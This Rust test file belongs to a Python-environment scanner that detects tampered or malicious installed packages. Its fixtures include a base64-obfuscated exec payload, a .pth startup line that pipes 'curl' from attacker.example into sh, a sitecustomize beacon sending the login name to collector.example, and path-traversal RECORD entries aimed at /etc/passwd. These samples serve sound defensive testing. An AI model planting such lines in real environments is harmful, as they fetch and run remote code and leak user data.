//! Installed environments built by hand in a temporary folder: a
//! `pyvenv.cfg`, a site-packages folder, distributions with `RECORD` files
//! whose hashes the tests compute themselves. Nothing is installed with pip
//! and nothing is run, except `python3 -m venv --without-pip` once.

use std::fs;
use std::path::PathBuf;

use assay::environment::{EnvironmentError, LocatedBy, locate};
use assay::python::ExecContext;
use assay::{ArtifactReport, Limits, Scanner, Severity, VerdictLabel};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use sha2::{Digest, Sha256};

/// A virtual environment under a temporary folder, with a folder beside it
/// (`outside/`) that is not part of the environment.
struct FakeEnv {
    _dir: tempfile::TempDir,
    root: PathBuf,
    site: PathBuf,
    outside: PathBuf,
}

const MALICIOUS_LINE: &str =
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";

fn hash(data: &[u8]) -> String {
    format!("sha256={}", URL_SAFE_NO_PAD.encode(Sha256::digest(data)))
}

impl FakeEnv {
    fn new() -> FakeEnv {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("venv");
        let site = root.join("lib/python3.12/site-packages");
        fs::create_dir_all(&site).expect("mkdir");
        fs::create_dir_all(root.join("bin")).expect("mkdir");
        fs::write(
            root.join("pyvenv.cfg"),
            "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.12.4\n",
        )
        .expect("write");
        let outside = dir.path().join("outside");
        fs::create_dir_all(&outside).expect("mkdir");
        FakeEnv {
            _dir: dir,
            root,
            site,
            outside,
        }
    }

    /// Writes a file at a path relative to site-packages.
    fn write(&self, rel: &str, data: &[u8]) {
        let path = self.site.join(rel);
        fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        fs::write(path, data).expect("write");
    }

    /// Installs a distribution the way an installer does: its files, then
    /// a dist-info folder whose RECORD holds every file's hash and size.
    fn install(&self, name: &str, version: &str, files: &[(&str, &str)]) {
        let dist_info = format!("{name}-{version}.dist-info");
        let metadata = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
        let mut all: Vec<(String, String)> = files
            .iter()
            .map(|(p, d)| ((*p).to_owned(), (*d).to_owned()))
            .collect();
        all.push((format!("{dist_info}/METADATA"), metadata));
        all.push((format!("{dist_info}/INSTALLER"), "pip\n".to_owned()));
        let mut record = String::new();
        for (path, data) in &all {
            self.write(path, data.as_bytes());
            record.push_str(&format!(
                "{path},{},{}\n",
                hash(data.as_bytes()),
                data.len()
            ));
        }
        record.push_str(&format!("{dist_info}/RECORD,,\n"));
        self.write(&format!("{dist_info}/RECORD"), record.as_bytes());
    }

    fn scan(&self) -> Vec<ArtifactReport> {
        Scanner::new()
            .scan_environment(&self.root)
            .expect("an environment")
    }
}

fn named<'a>(reports: &'a [ArtifactReport], name: &str) -> &'a ArtifactReport {
    reports
        .iter()
        .find(|r| r.name.as_deref() == Some(name))
        .unwrap_or_else(|| panic!("no report for {name}: {reports:#?}"))
}

fn unowned(reports: &[ArtifactReport]) -> &ArtifactReport {
    reports
        .iter()
        .find(|r| {
            r.installed
                .as_ref()
                .is_some_and(|i| i.metadata_dir.is_none())
        })
        .expect("an unowned-files report")
}

fn findings<'a>(report: &'a ArtifactReport, rule: &str) -> Vec<&'a assay::Finding> {
    report.findings.iter().filter(|f| f.rule == rule).collect()
}

fn label(report: &ArtifactReport) -> VerdictLabel {
    report.verdict.as_ref().expect("a verdict").label
}

fn installs_requests(env: &FakeEnv) {
    env.install(
        "requests",
        "2.32.3",
        &[
            ("requests/__init__.py", "from .api import get\n"),
            ("requests/api.py", "def get(url):\n    return url\n"),
            (
                "../../../bin/requests-cli",
                "#!/usr/bin/python3\nprint('hi')\n",
            ),
        ],
    );
}

#[test]
fn a_clean_environment() {
    let env = FakeEnv::new();
    installs_requests(&env);
    let reports = env.scan();
    assert_eq!(reports.len(), 2, "{reports:#?}");

    let requests = named(&reports, "requests");
    assert_eq!(requests.version.as_deref(), Some("2.32.3"));
    assert_eq!(
        requests.kind,
        Some(assay::artifact::ArtifactKind::Installed)
    );
    assert!(requests.findings.is_empty(), "{:#?}", requests.findings);
    assert!(requests.errors.is_empty(), "{:?}", requests.errors);
    assert_eq!(label(requests), VerdictLabel::Clean);
    // Both modules, METADATA, INSTALLER, RECORD and the script in bin/.
    assert_eq!(requests.stats.files, 6);
    let origin = requests.installed.as_ref().expect("installed");
    assert_eq!(origin.located_by, LocatedBy::PyvenvCfg);
    assert_eq!(origin.site_packages, env.site);
    assert_eq!(origin.prefix, env.root);
    assert_eq!(
        origin.metadata_dir.as_deref(),
        Some("requests-2.32.3.dist-info")
    );
    assert_eq!(requests.target, env.site);

    let rest = unowned(&reports);
    assert!(rest.findings.is_empty() && rest.errors.is_empty());
    assert_eq!(rest.stats.files, 0);
}

#[test]
fn a_file_changed_after_install_is_high_and_its_code_is_scanned() {
    let env = FakeEnv::new();
    installs_requests(&env);
    let init = env.site.join("requests/__init__.py");
    let mut patched = fs::read_to_string(&init).expect("read");
    patched.push_str(MALICIOUS_LINE);
    fs::write(&init, patched).expect("write");

    let reports = env.scan();
    let requests = named(&reports, "requests");
    let changed = findings(requests, "AY503");
    assert_eq!(changed.len(), 1, "{changed:#?}");
    assert_eq!(changed[0].location.path, "requests/__init__.py");
    assert_eq!(changed[0].severity, Severity::High);
    assert!(
        changed[0].message.contains("changed after install"),
        "{}",
        changed[0].message
    );
    assert!(
        changed[0]
            .decoded
            .as_deref()
            .is_some_and(|d| d.starts_with("expected sha256=")),
        "{changed:#?}"
    );
    // The injected code is analysed like any module.
    assert!(!findings(requests, "AY104").is_empty(), "{requests:#?}");
    assert_eq!(label(requests), VerdictLabel::Malicious);
}

#[test]
fn a_changed_launcher_script_is_medium() {
    let env = FakeEnv::new();
    installs_requests(&env);
    fs::write(
        env.root.join("bin/requests-cli"),
        "#!/opt/x/python\nprint('hi')\n",
    )
    .expect("write");
    let reports = env.scan();
    let changed = findings(named(&reports, "requests"), "AY503");
    assert_eq!(changed.len(), 1, "{changed:#?}");
    assert_eq!(changed[0].location.path, "../../../bin/requests-cli");
    assert_eq!(changed[0].severity, Severity::Medium);
}

#[test]
fn a_missing_file_is_low() {
    let env = FakeEnv::new();
    installs_requests(&env);
    fs::remove_file(env.site.join("requests/api.py")).expect("rm");
    let reports = env.scan();
    let requests = named(&reports, "requests");
    let missing = findings(requests, "AY503");
    assert_eq!(missing.len(), 1, "{missing:#?}");
    assert_eq!(missing[0].location.path, "requests/api.py");
    assert_eq!(missing[0].severity, Severity::Low);
    assert!(missing[0].message.contains("missing"));
    assert_eq!(label(requests), VerdictLabel::Clean);
}

#[test]
fn a_malicious_pth_owned_by_nobody_is_startup_code() {
    let env = FakeEnv::new();
    installs_requests(&env);
    env.write(
        "zz_init.pth",
        b"import os; os.system('curl -s https://attacker.example/x | sh')\n",
    );
    let reports = env.scan();
    assert_eq!(label(named(&reports, "requests")), VerdictLabel::Clean);
    let rest = unowned(&reports);
    let owned_by_nobody = findings(rest, "AY503");
    assert_eq!(owned_by_nobody.len(), 1, "{owned_by_nobody:#?}");
    assert_eq!(owned_by_nobody[0].location.path, "zz_init.pth");
    assert_eq!(owned_by_nobody[0].severity, Severity::Medium);
    let startup = findings(rest, "AY102");
    assert!(!startup.is_empty(), "{rest:#?}");
    assert!(
        startup
            .iter()
            .all(|f| f.context == Some(ExecContext::Startup))
    );
    assert!(label(rest) >= VerdictLabel::Suspicious, "{rest:#?}");
}

#[test]
fn sitecustomize_in_and_beside_site_packages_is_startup_code() {
    let env = FakeEnv::new();
    let beacon = "import urllib.request, os\n\
                  urllib.request.urlopen('https://collector.example/?u=' + os.getlogin())\n";
    env.write("sitecustomize.py", beacon.as_bytes());
    fs::write(env.site.join("../usercustomize.py"), beacon).expect("write");
    let reports = env.scan();
    assert_eq!(reports.len(), 1, "{reports:#?}");
    let rest = unowned(&reports);
    let paths: Vec<&str> = findings(rest, "AY503")
        .iter()
        .map(|f| f.location.path.as_str())
        .collect();
    assert_eq!(paths, ["../usercustomize.py", "sitecustomize.py"]);
    let startup: Vec<&str> = rest
        .findings
        .iter()
        .filter(|f| f.context == Some(ExecContext::Startup))
        .map(|f| f.location.path.as_str())
        .collect();
    assert!(startup.contains(&"sitecustomize.py"), "{rest:#?}");
    assert!(startup.contains(&"../usercustomize.py"), "{rest:#?}");
}

#[test]
fn well_known_tool_files_are_scanned_but_not_reported_as_unowned() {
    let env = FakeEnv::new();
    env.write("_virtualenv.pth", b"import _virtualenv\n");
    env.write("_virtualenv.py", b"def patch():\n    return None\n");
    env.write(
        "README.txt",
        b"This directory exists so that 3rd party packages can be installed here.\n",
    );
    let reports = env.scan();
    let rest = unowned(&reports);
    assert_eq!(rest.stats.files, 3);
    assert!(findings(rest, "AY503").is_empty(), "{rest:#?}");
    assert!(rest.errors.is_empty(), "{:?}", rest.errors);
}

#[test]
fn an_egg_info_distribution() {
    let env = FakeEnv::new();
    env.write("legacy/__init__.py", b"VALUE = 1\n");
    env.write("legacy/util.py", b"def f():\n    return 2\n");
    env.write(
        "legacy-1.0-py3.12.egg-info/PKG-INFO",
        b"Metadata-Version: 1.1\nName: legacy\nVersion: 1.0\n",
    );
    env.write(
        "legacy-1.0-py3.12.egg-info/installed-files.txt",
        b"../legacy/__init__.py\n../legacy/util.py\n../legacy/gone.py\nPKG-INFO\ninstalled-files.txt\n",
    );
    // Without installed-files.txt: top_level.txt says what it owns.
    env.write("oldtool.py", b"X = 1\n");
    env.write(
        "oldtool-0.3.egg-info/PKG-INFO",
        b"Metadata-Version: 1.0\nName: oldtool\nVersion: 0.3\n",
    );
    env.write("oldtool-0.3.egg-info/top_level.txt", b"oldtool\n");

    let reports = env.scan();
    assert_eq!(reports.len(), 3, "{reports:#?}");
    let legacy = named(&reports, "legacy");
    assert_eq!(legacy.version.as_deref(), Some("1.0"));
    assert_eq!(legacy.stats.files, 4);
    assert_eq!(legacy.stats.python_files, 2);
    let missing = findings(legacy, "AY503");
    assert_eq!(missing.len(), 1, "{missing:#?}");
    assert_eq!(missing[0].location.path, "legacy/gone.py");

    let oldtool = named(&reports, "oldtool");
    assert_eq!(oldtool.stats.python_files, 1);
    assert!(oldtool.findings.is_empty(), "{oldtool:#?}");
    let rest = unowned(&reports);
    assert_eq!(rest.stats.files, 0, "{rest:#?}");
}

#[test]
fn a_dist_info_without_record_is_low_and_owns_its_top_level() {
    let env = FakeEnv::new();
    env.write("debpkg/__init__.py", b"A = 1\n");
    env.write(
        "debpkg-2.0.dist-info/METADATA",
        b"Metadata-Version: 2.1\nName: debpkg\nVersion: 2.0\n",
    );
    env.write("debpkg-2.0.dist-info/top_level.txt", b"debpkg\n");
    let reports = env.scan();
    let debpkg = named(&reports, "debpkg");
    let no_record = findings(debpkg, "AY503");
    assert_eq!(no_record.len(), 1);
    assert_eq!(no_record[0].location.path, "debpkg-2.0.dist-info/RECORD");
    assert_eq!(no_record[0].severity, Severity::Low);
    assert_eq!(debpkg.stats.python_files, 1);
    assert_eq!(unowned(&reports).stats.files, 0);
}

#[test]
fn a_record_entry_outside_the_prefix_is_never_read() {
    let env = FakeEnv::new();
    let secret = env.outside.join("passwd");
    fs::write(&secret, "root:x:0:0:root:/root:/bin/bash\n").expect("write");
    let dist_info = "sneaky-1.0.dist-info";
    let metadata = "Name: sneaky\nVersion: 1.0\n";
    env.write(&format!("{dist_info}/METADATA"), metadata.as_bytes());
    // From site-packages, four levels up is the temporary folder.
    let record = format!(
        "{dist_info}/METADATA,{},{}\n../../../../outside/passwd,sha256=AAAA,10\n../../../../../../../../../../etc/passwd,,\n",
        hash(metadata.as_bytes()),
        metadata.len()
    );
    env.write(&format!("{dist_info}/RECORD"), record.as_bytes());

    let reports = env.scan();
    let sneaky = named(&reports, "sneaky");
    let outside = findings(sneaky, "AY503");
    let paths: Vec<&str> = outside.iter().map(|f| f.location.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "../../../../../../../../../../etc/passwd",
            "../../../../outside/passwd"
        ]
    );
    assert!(outside.iter().all(|f| f.severity == Severity::Medium));
    assert!(
        outside
            .iter()
            .all(|f| f.message.contains("outside the environment"))
    );
    // METADATA and RECORD only.
    assert_eq!(sneaky.stats.files, 2);
}

#[cfg(unix)]
#[test]
fn symbolic_links_out_of_the_environment_are_not_followed() {
    let env = FakeEnv::new();
    let payload = env.outside.join("payload.py");
    fs::write(&payload, MALICIOUS_LINE).expect("write");
    env.install("linked", "1.0", &[("linked/__init__.py", "A = 1\n")]);
    // An owned module replaced by a link, and an unowned .pth link.
    let module = env.site.join("linked/__init__.py");
    fs::remove_file(&module).expect("rm");
    std::os::unix::fs::symlink(&payload, &module).expect("symlink");
    std::os::unix::fs::symlink(&payload, env.site.join("hook.pth")).expect("symlink");
    // A link that stays inside the environment is followed.
    env.write("inside/real.py", b"B = 2\n");
    std::os::unix::fs::symlink(env.site.join("inside/real.py"), env.site.join("alias.py"))
        .expect("symlink");

    let reports = env.scan();
    for report in &reports {
        assert!(findings(report, "AY104").is_empty(), "{report:#?}");
    }
    let linked = named(&reports, "linked");
    let out = findings(linked, "AY503");
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].location.path, "linked/__init__.py");
    assert_eq!(out[0].severity, Severity::High);
    assert!(
        out[0]
            .decoded
            .as_deref()
            .is_some_and(|d| d.contains("symbolic link"))
    );

    let rest = unowned(&reports);
    let hook: Vec<_> = findings(rest, "AY503")
        .into_iter()
        .filter(|f| f.location.path == "hook.pth")
        .map(|f| f.message.as_str())
        .collect();
    assert_eq!(hook.len(), 2, "{rest:#?}");
    assert!(hook.iter().any(|m| m.contains("outside the environment")));
    let read: Vec<&str> = rest
        .findings
        .iter()
        .map(|f| f.location.path.as_str())
        .collect();
    assert!(read.contains(&"alias.py") && read.contains(&"inside/real.py"));
    assert_eq!(
        rest.stats.files, 2,
        "alias.py and inside/real.py: {rest:#?}"
    );
}

#[test]
fn a_site_packages_folder_given_directly() {
    let env = FakeEnv::new();
    installs_requests(&env);
    let reports = Scanner::new()
        .scan_environment(&env.site)
        .expect("site-packages");
    let requests = named(&reports, "requests");
    let origin = requests.installed.as_ref().expect("installed");
    assert_eq!(origin.located_by, LocatedBy::SitePackages);
    // The layout shows the prefix, so the launcher in bin/ is read.
    assert_eq!(origin.prefix, env.root);
    assert_eq!(requests.stats.files, 6);
    assert!(requests.findings.is_empty());
}

#[test]
fn a_lone_site_packages_folder_is_its_own_prefix() {
    let dir = tempfile::tempdir().expect("tempdir");
    let site = dir.path().join("vendored");
    fs::create_dir_all(site.join("x-1.0.dist-info")).expect("mkdir");
    fs::write(
        site.join("x-1.0.dist-info/METADATA"),
        "Name: x\nVersion: 1.0\n",
    )
    .expect("write");
    let found = locate(&site).expect("site-packages");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].located_by, LocatedBy::SitePackages);
    assert_eq!(found[0].prefix, found[0].path);
}

#[test]
fn an_interpreter_inside_a_venv_is_not_run() {
    let env = FakeEnv::new();
    installs_requests(&env);
    let marker = env.outside.join("ran");
    let python = env.root.join("bin/python");
    fs::write(
        &python,
        format!("#!/bin/sh\ntouch '{}'\n", marker.display()),
    )
    .expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        fs::set_permissions(&python, fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let found = locate(&python).expect("a venv");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].path, env.site);
    assert_eq!(found[0].located_by, LocatedBy::PyvenvCfg);
    let reports = Scanner::new().scan_environment(&python).expect("scans");
    assert_eq!(reports.len(), 2);
    assert!(!marker.exists(), "the interpreter must not be run");
}

#[test]
fn a_prefix_without_pyvenv_cfg_is_found_by_its_layout() {
    let dir = tempfile::tempdir().expect("tempdir");
    let site = dir.path().join("lib/python3.11/site-packages");
    fs::create_dir_all(&site).expect("mkdir");
    let found = locate(dir.path()).expect("layout");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].located_by, LocatedBy::Layout);
    assert!(found[0].path.ends_with("lib/python3.11/site-packages"));
}

#[test]
fn lib64_linked_to_lib_is_scanned_once() {
    let env = FakeEnv::new();
    #[cfg(unix)]
    std::os::unix::fs::symlink("lib", env.root.join("lib64")).expect("symlink");
    let found = locate(&env.root).expect("venv");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].path, env.site);
}

#[test]
fn what_is_not_an_environment_is_a_clear_error() {
    let dir = tempfile::tempdir().expect("tempdir");
    let error = locate(dir.path()).expect_err("empty folder");
    assert!(
        matches!(error, EnvironmentError::NotAnEnvironment { .. }),
        "{error}"
    );
    let missing = dir.path().join("nope");
    let error = Scanner::new()
        .scan_environment(&missing)
        .expect_err("missing");
    assert!(
        matches!(error, EnvironmentError::NotFound { .. }),
        "{error}"
    );
    // A venv whose site-packages is gone.
    fs::write(dir.path().join("pyvenv.cfg"), "version = 3.12.0\n").expect("write");
    let error = locate(dir.path()).expect_err("no site-packages");
    assert!(error.to_string().contains("pyvenv.cfg"), "{error}");
}

#[test]
fn limits_apply_to_installed_files() {
    let env = FakeEnv::new();
    let big = "A = 1\n".repeat(1000);
    env.install(
        "big",
        "1.0",
        &[("big/__init__.py", "B = 2\n"), ("big/data.py", &big)],
    );
    let limits = Limits {
        max_file_bytes: 1000,
        ..Limits::default()
    };
    let reports = Scanner::new()
        .limits(limits)
        .scan_environment(&env.root)
        .expect("scans");
    let big_report = named(&reports, "big");
    assert!(
        big_report
            .findings
            .iter()
            .any(|f| f.location.path == "big/data.py"),
        "{big_report:#?}"
    );
    assert_eq!(big_report.stats.python_files, 1);

    let limits = Limits {
        max_total_bytes: 100,
        ..Limits::default()
    };
    let reports = Scanner::new()
        .limits(limits)
        .scan_environment(&env.root)
        .expect("scans");
    let big_report = named(&reports, "big");
    assert!(
        big_report
            .errors
            .iter()
            .any(|e| e.contains("stopped reading")),
        "{big_report:#?}"
    );
}

#[test]
fn hostile_listings_do_not_panic() {
    let env = FakeEnv::new();
    env.write("bad-1.0.dist-info/METADATA", b"\xff\xfe\x00garbage");
    env.write(
        "bad-1.0.dist-info/RECORD",
        b"\"unterminated,\n,,,\n\xff\xfe,sha256=,-1\n/,,\n..,,\n\0,md5=abc,1\n",
    );
    env.write(
        "worse-1.0.egg-info/installed-files.txt",
        b"\n\n../../../../../\n/\n",
    );
    let reports = env.scan();
    assert_eq!(reports.len(), 3, "{reports:#?}");
    for report in &reports {
        assert!(report.verdict.is_some(), "{report:#?}");
    }
}

/// A real virtual environment made by `python3 -m venv --without-pip`: no
/// package is installed, so its site-packages is empty; a distribution is
/// then written into it by hand.
#[test]
#[allow(
    clippy::print_stderr,
    reason = "says why the test body was skipped on a machine without python3"
)]
fn a_real_venv() {
    let Some(python) = which("python3") else {
        // CI has python3; a machine without it cannot make a venv.
        eprintln!("python3 not found on PATH: skipping the real-venv test body");
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let venv = dir.path().join("venv");
    let status = std::process::Command::new(&python)
        .args(["-m", "venv", "--without-pip"])
        .arg(&venv)
        .status()
        .expect("python3 runs");
    assert!(status.success(), "python3 -m venv failed");

    let reports = Scanner::new().scan_environment(&venv).expect("a venv");
    assert_eq!(reports.len(), 1, "{reports:#?}");
    let origin = reports[0].installed.as_ref().expect("installed");
    assert_eq!(origin.located_by, LocatedBy::PyvenvCfg);
    assert!(reports[0].errors.is_empty(), "{:?}", reports[0].errors);

    // The venv's own interpreter (a link to the system one) leads back to
    // the venv through pyvenv.cfg.
    let found = locate(&venv.join("bin/python3")).expect("venv interpreter");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].path, origin.site_packages);
    assert_eq!(found[0].located_by, LocatedBy::PyvenvCfg);

    let site = origin.site_packages.clone();
    fs::create_dir_all(site.join("tiny")).expect("mkdir");
    fs::write(site.join("tiny/__init__.py"), "X = 1\n").expect("write");
    let meta = "Metadata-Version: 2.1\nName: tiny\nVersion: 0.1\n";
    fs::create_dir_all(site.join("tiny-0.1.dist-info")).expect("mkdir");
    fs::write(site.join("tiny-0.1.dist-info/METADATA"), meta).expect("write");
    fs::write(
        site.join("tiny-0.1.dist-info/RECORD"),
        format!(
            "tiny/__init__.py,{},6\ntiny-0.1.dist-info/METADATA,{},{}\ntiny-0.1.dist-info/RECORD,,\n",
            hash(b"X = 1\n"),
            hash(meta.as_bytes()),
            meta.len()
        ),
    )
    .expect("write");
    let reports = Scanner::new().scan_environment(&venv).expect("a venv");
    let tiny = named(&reports, "tiny");
    assert!(tiny.findings.is_empty(), "{tiny:#?}");
    assert_eq!(label(tiny), VerdictLabel::Clean);
}

fn which(name: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path)
        .map(|dir| dir.join(name))
        .find(|p| p.is_file())
}

#[test]
fn large_binaries_are_hashed_in_full_but_not_kept() {
    let env = FakeEnv::new();
    // 3 MiB of a fake shared library: over the stream threshold.
    let mut library = b"\x7fELF".to_vec();
    library.resize(3 << 20, 7);
    let library = String::from_utf8_lossy(&library).into_owned();
    env.install(
        "native",
        "1.0",
        &[
            ("native/__init__.py", "from ._core import *\n"),
            ("native/_core.cpython-312-x86_64-linux-gnu.so", &library),
        ],
    );
    // The total limit counts kept bytes: 3 MiB streamed do not trip 1 MiB.
    let limits = Limits {
        max_total_bytes: 1 << 20,
        ..Limits::default()
    };
    let scan = || {
        Scanner::new()
            .limits(limits)
            .scan_environment(&env.root)
            .expect("scans")
    };
    let reports = scan();
    let native = named(&reports, "native");
    assert!(native.findings.is_empty(), "{native:#?}");
    assert!(native.errors.is_empty(), "{:?}", native.errors);
    assert!(native.size.is_some_and(|s| s > 3 << 20));

    // One byte changed at the end of the library is still found.
    let path = env
        .site
        .join("native/_core.cpython-312-x86_64-linux-gnu.so");
    let mut bytes = fs::read(&path).expect("read");
    if let Some(last) = bytes.last_mut() {
        *last = b'X';
    }
    fs::write(&path, bytes).expect("write");
    let reports = scan();
    let changed = findings(named(&reports, "native"), "AY503");
    assert_eq!(changed.len(), 1, "{changed:#?}");
    assert_eq!(changed[0].severity, Severity::High);
}

#[test]
fn sparse_100_gib_library_is_not_hashed_in_full() {
    let env = FakeEnv::new();
    env.install("native", "1.0", &[("native/__init__.py", "\n")]);
    // A sparse file claims 100 GiB and costs nothing on disk; the RECORD
    // line is added by hand (its hash cannot be computed here either).
    let rel = "native/_core.cpython-312-x86_64-linux-gnu.so";
    let path = env.site.join(rel);
    let file = fs::File::create(&path).expect("create");
    file.set_len(100 << 30).expect("sparse file");
    let record = env.site.join("native-1.0.dist-info/RECORD");
    let mut text = fs::read_to_string(&record).expect("record");
    text.push_str(&format!("{rel},sha256=AAAA,{}\n", 100u64 << 30));
    fs::write(&record, text).expect("write");

    let reports = Scanner::new()
        .limits(Limits {
            max_hashed_bytes: 8 << 20,
            ..Limits::default()
        })
        .scan_environment(&env.root)
        .expect("scans");
    let native = named(&reports, "native");
    // Skipped by its size, not read: no hash mismatch can be claimed, and
    // the skip is reported.
    assert!(findings(native, "AY503").is_empty(), "{native:#?}");
    let skipped = findings(native, "AY504");
    assert!(
        skipped
            .iter()
            .any(|f| f.message.contains("was not checked")),
        "{native:#?}"
    );
}

/// Installs `name` with one module and the `[console_scripts]` `commands`
/// (`command = module:function` lines).
fn installs_commands(env: &FakeEnv, name: &str, commands: &str) {
    let module = name.replace('-', "_");
    env.install(
        name,
        "1.0",
        &[
            (
                &format!("{module}/__init__.py"),
                "def main():\n    return 0\n",
            ),
            (
                &format!("{name}-1.0.dist-info/entry_points.txt"),
                &format!("[console_scripts]\n{commands}\n"),
            ),
        ],
    );
}

#[test]
fn a_command_another_installed_distribution_installs_is_reported() {
    let env = FakeEnv::new();
    installs_commands(
        &env,
        "fmtlib",
        "fmtlib = fmtlib:main\nfmtlib-check = fmtlib:main",
    );
    // Takes over the command of the distribution named like it; its own
    // `fastget` is nobody else's.
    installs_commands(
        &env,
        "fastget",
        "fmtlib = fastget:main\nfastget = fastget:main",
    );
    // Two forks that share `lint`, named like neither.
    installs_commands(&env, "lintkit", "lint = lintkit:main");
    installs_commands(&env, "lintkit-ng", "lint = lintkit_ng:main");
    let reports = env.scan();

    assert!(findings(named(&reports, "fmtlib"), "AY520").is_empty());
    let taken = findings(named(&reports, "fastget"), "AY520");
    assert_eq!(taken.len(), 1, "{taken:#?}");
    assert_eq!(taken[0].severity, Severity::Medium);
    assert_eq!(
        taken[0].location.path,
        "fastget-1.0.dist-info/entry_points.txt"
    );
    assert!(
        taken[0].message.contains("`fmtlib`") && taken[0].message.contains("takes over"),
        "{}",
        taken[0].message
    );
    for fork in ["lintkit", "lintkit-ng"] {
        let shared = findings(named(&reports, fork), "AY520");
        assert_eq!(shared.len(), 1, "{fork}: {shared:#?}");
        assert_eq!(shared[0].severity, Severity::Low);
    }
}

#[test]
fn commands_installed_once_are_not_reported() {
    let env = FakeEnv::new();
    installs_commands(&env, "fmtlib", "fmtlib = fmtlib:main");
    installs_commands(&env, "fastget", "fastget = fastget:main");
    let reports = env.scan();
    for report in &reports {
        assert!(findings(report, "AY520").is_empty(), "{report:#?}");
    }
}
